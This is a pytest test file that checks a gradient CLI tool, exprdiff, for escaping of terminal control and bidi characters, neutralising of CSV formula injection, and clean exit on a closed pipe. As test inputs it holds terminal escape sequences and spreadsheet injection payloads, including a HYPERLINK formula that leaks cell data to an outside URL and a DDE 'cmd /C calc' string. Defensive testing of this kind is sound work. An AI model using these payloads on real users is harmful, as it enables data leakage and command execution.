"""Output that cannot attack its reader (issue "Reliability, round 2", items 10, 11 and 13's
`| head -1`): control and bidi characters escaped in every output, CSV text cells that no
spreadsheet runs as a formula, and one behaviour for a closed pipe whatever the format.
"""

from __future__ import annotations

import csv
import fcntl
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from exprdiff.cli import main

ROOT = Path(__file__).resolve().parent.parent

#: The policy's characters (exprdiff/errors.py): C0 and C1 controls but tab and newline, DEL,
#: the bidirectional controls, the line and paragraph separators.
UNSAFE = [chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), 0x061C,
                           0x200E, 0x200F, *range(0x202A, 0x202F), 0x2028, 0x2029,
                           *range(0x2066, 0x206A))]
RAW = re.compile("[" + re.escape("".join(UNSAFE)) + "]")

#: Batch lines that try to drive the terminal: a title change and a screen clear (OSC, CSI), an
#: ESC in a point's text, a right-to-left override, a C1 CSI, raw bytes in a text line.
HOSTILE = [
    r'{"expr": "x\u001b]0;TITLE\u0007\u001b[2J+1", "at": {"x": 1}}',
    r'{"expr": "x+1", "at": {"x": "1\u001b[2J"}}',
    r'{"expr": "x\u202e+1", "at": {"x": 1}}',
    r'{"expr": "x\u009b2J+1", "at": {"x": 1}}',
    "x\x1b[31m + 1 ; x=1",
    "x + 1 ; x\u2067=1",
    "x*y ; x=2, y=3",
]
EXPRESSIONS = ["x\x1b]0;TITLE\x07\x1b[2J+1", HOSTILE[1], "x\u202e+1", "x\x9b2J+1", "x\x1b[31m + 1",
               "x + 1", "x*y"]


def run(*args: str, text: str = "") -> tuple[int, str, str]:
    done = CliRunner().invoke(main, list(args), input=text)
    return done.exit_code, done.stdout, done.stderr


# -- item 10: control and bidi characters never reach the reader raw ----------------------------

@pytest.mark.parametrize("output", ["jsonl", "json"])
def test_json_escapes_every_control_and_bidi_character_and_reads_back_exactly(output):
    code, out, err = run("grad", "-", "--format", output, text="\n".join(HOSTILE) + "\n")
    assert code == 1, err
    assert not RAW.search(out), repr(RAW.search(out))
    records = ([json.loads(line) for line in out.splitlines()] if output == "jsonl"
               else json.loads(out))
    assert [r["expression"] for r in records] == EXPRESSIONS  # exactly what was read
    assert records[-1]["gradient"] == {"x": 3.0, "y": 2.0}
    assert "\\u202e" in out and "\\u009b" in out and "\\u001b" in out


def test_every_policy_character_is_escaped_in_json_and_reads_back():
    lines = [json.dumps({"expr": f"x{char}+1", "at": {"x": 1}}) for char in UNSAFE]
    for output in ("jsonl", "json"):
        code, out, _ = run("grad", "-", "--format", output, text="\n".join(lines) + "\n")
        assert code == 1 and not RAW.search(out)
        records = ([json.loads(line) for line in out.splitlines()] if output == "jsonl"
                   else json.loads(out))
        assert [r["expression"] for r in records] == [f"x{char}+1" for char in UNSAFE]


def test_the_batch_table_and_its_notes_show_escapes():
    code, out, err = run("grad", "-", text="\n".join(HOSTILE) + "\n")
    assert code == 1
    assert not RAW.search(out + err), repr(RAW.search(out + err))
    assert "x\\x1b]0;TITLE\\x07\\x1b[2J+1" in out  # the expression cell, escaped
    assert "'1\\x1b[2J'" in out  # the point's text in the notes
    assert "\\u202e" in out and "\\x9b" in out and "\\u2067" in out


def test_blocks_escape_too(monkeypatch):
    monkeypatch.setenv("COLUMNS", "40")  # too narrow for the table: one block per record
    code, out, _ = run("grad", "-", text="\n".join(HOSTILE) + "\n")
    assert code == 1 and "line 1: x\\x1b]0;TITLE" in out
    assert not RAW.search(out)


def test_a_file_name_is_escaped_where_it_labels_a_line(tmp_path):
    hostile = tmp_path / "a\x1b[2Jb.txt"
    hostile.write_text("x + 1 ; x=1\nlog(x) ; x=-1\n")
    plain = tmp_path / "plain.txt"
    plain.write_text("x ; x=1\n")
    for output in ("table", "csv"):
        code, out, err = run("grad", "--file", str(hostile), "--file", str(plain),
                             "--format", output)
        assert code == 1 and not RAW.search(out + err), (output, out)
        assert "a\\x1b[2Jb.txt" in out


def test_csv_escapes_control_and_bidi_characters():
    code, out, _ = run("grad", "-", "--format", "csv", text="\n".join(HOSTILE) + "\n")
    assert code == 1 and not RAW.search(out)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["expression"] == "x\\x1b]0;TITLE\\x07\\x1b[2J+1"
    assert rows[2]["expression"] == "x\\u202e+1"
    assert rows[-1]["df/dy"] == "2.0"


# -- item 11: CSV text cells are never formulas ----------------------------------------------------

#: Lines whose text cells a spreadsheet would run as formulas, and lines that just look alike.
FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1, "click") ; x=1',
    "-x**2 ; x=3",
    "+x ; x=1",
    "@SUM(1+1) ; x=1",
    "'quoted ; x=1",
    '{"expr": "  =1+1", "at": {"x": 1}}',
    '{"expr": "\\uff1d1+1", "at": {"x": 1}}',
    '{"expr": "x + 1", "at": {"=cmd|\' /C calc\'!A0": 1}}',
    "x - 1 ; x=1",
]


def _is_formula(cell: str) -> bool:
    starts = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
    return cell[:1] in starts or cell.lstrip()[:1] in starts


def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers():
    code, out, _ = run("grad", "-", "--format", "csv", text="\n".join(FORMULAS) + "\n")
    assert code == 1
    table = list(csv.reader(io.StringIO(out)))
    header, rows = table[0], table[1:]
    numbers = {"line", "value", "x", "df/dx", "error_column"}
    for row in [header, *rows]:
        for name, cell in zip(header, row, strict=True):
            if name not in numbers:
                assert not _is_formula(cell), (name, cell)
    assert "'=cmd|' /C calc'!A0" in header  # a point's name is a header cell
    by_line = {row[header.index("line")]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_line["2"]["expression"] == "'-x**2"
    assert by_line["2"]["value"] == "-9.0" and by_line["2"]["df/dx"] == "-6.0"  # numbers
    assert by_line["9"]["expression"] == "x - 1"  # not at the start: left alone
    assert by_line["5"]["expression"].startswith("''")  # a leading ' gets one more


def test_csv_text_cells_read_back_exactly_by_dropping_one_leading_quote():
    text = "\n".join(FORMULAS) + "\n"
    _, jsonl, _ = run("grad", "-", "--format", "jsonl", text=text)
    _, out, _ = run("grad", "-", "--format", "csv", text=text)
    expected = [(r["expression"], r.get("error", {}).get("message", ""))
                for r in map(json.loads, jsonl.splitlines())]
    rows = list(csv.DictReader(io.StringIO(out)))

    def undo(cell: str) -> str:
        return cell[1:] if cell.startswith("'") else cell

    assert [(undo(r["expression"]), undo(r["error"])) for r in rows] == expected


# -- item 13: `| head -1` ends every format the same way ---------------------------------------

MANY_POINTS = [arg for k in range(300) for arg in ("--at", f"x={k},y=2")]


@pytest.fixture(scope="module")
def long_batch(tmp_path_factory) -> str:
    path = tmp_path_factory.mktemp("head") / "long.txt"
    path.write_text("".join(f"x*y + {k} ; x=1, y=2\nlog(x) ; x=-{k + 1}\n" for k in range(600)))
    return str(path)


def first_line_then_close(args: list[str]) -> tuple[int, bytes, str]:
    """Run exprdiff into a small pipe, read one line and close the pipe, as `| head -1` does;
    the output is several times the pipe, so exprdiff is writing when the reader goes away."""
    read, write = os.pipe()
    fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 4096)
    env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "100"}
    env.pop("EXPRDIFF_DEBUG", None)
    process = subprocess.Popen([sys.executable, "-m", "exprdiff", *args], cwd=ROOT, env=env,
                               stdin=subprocess.DEVNULL, stdout=write, stderr=subprocess.PIPE)
    os.close(write)
    with os.fdopen(read, "rb", buffering=0) as reader:
        first = b""
        while not first.endswith(b"\n") and (byte := reader.read(1)):
            first += byte
    _, err = process.communicate(timeout=120)
    return process.returncode, first, err.decode()


@pytest.mark.parametrize("output", ["table", "json", "jsonl", "csv", "markdown", "latex"])
def test_a_closed_pipe_ends_one_expression_quietly_with_status_0(output):
    code, first, err = first_line_then_close(["grad", "x*y", *MANY_POINTS, "--format", output])
    assert first and (code, err) == (0, ""), (code, err)


@pytest.mark.parametrize("output", ["table", "json", "jsonl", "csv"])
def test_a_closed_pipe_ends_a_batch_quietly_with_status_0(output, long_batch):
    code, first, err = first_line_then_close(["grad", "--file", long_batch, "--format", output])
    assert first and (code, err) == (0, ""), (code, err)


def test_a_closed_pipe_ends_rich_step_tables_with_status_0_too():
    code, first, err = first_line_then_close(["grad", "x*y + sin(x)", "--steps",
                                              *MANY_POINTS[:120]])
    assert first and (code, err) == (0, ""), (code, err)
